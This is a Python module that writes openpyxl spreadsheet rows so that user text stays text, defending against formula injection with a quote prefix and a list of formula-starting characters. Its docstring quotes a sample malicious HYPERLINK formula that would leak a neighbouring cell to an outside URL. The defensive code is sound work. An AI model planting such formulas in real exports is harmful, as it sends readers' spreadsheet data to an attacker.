"""Writing spreadsheet rows in which people's text stays text.

openpyxl stores any string that starts with ``=`` as a formula, and a spreadsheet
program evaluates text that starts with ``+``, ``-`` or ``@`` as one when a cell is
edited. An indicator name, a task title or a guest's comment such as
``=HYPERLINK("http://…?leak="&B3,"…")`` would then run in the reader's Excel and
could send a neighbouring cell away. Every export writes its rows through
:func:`append_row`: strings are stored as strings, and the dangerous ones also get
Excel's quote prefix so that editing the cell keeps them text; numbers and dates stay
numbers and dates, so sums and date formats still work.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

#: First characters a spreadsheet program reads as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def text_cell(sheet: Worksheet, text: str) -> Cell:
    """A cell holding ``text`` as text, whatever it starts with.

    Control characters XML cannot carry are dropped rather than failing the whole
    export over one pasted character.
    """
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    cell = Cell(sheet)
    cell.value = text
    # Set after the value: openpyxl's setter marks "=…" as a formula and "#N/A" as an error.
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def as_cell(sheet: Worksheet, value: Any) -> Cell:
    """A cell for ``value``: text as text (see :func:`text_cell`), anything else as it is."""
    if isinstance(value, Cell):
        return value
    if isinstance(value, str):
        return text_cell(sheet, value)
    return Cell(sheet, value=value)


def append_row(sheet: Worksheet, values: Iterable[Any]) -> list[Cell]:
    """Append ``values`` as the next row of ``sheet`` and return its cells.

    Returning the cells lets a caller format them without ``sheet.max_row``, which
    scans every cell of the sheet and makes a long export quadratic.
    """
    cells = [as_cell(sheet, value) for value in values]
    sheet.append(cells)
    return cells
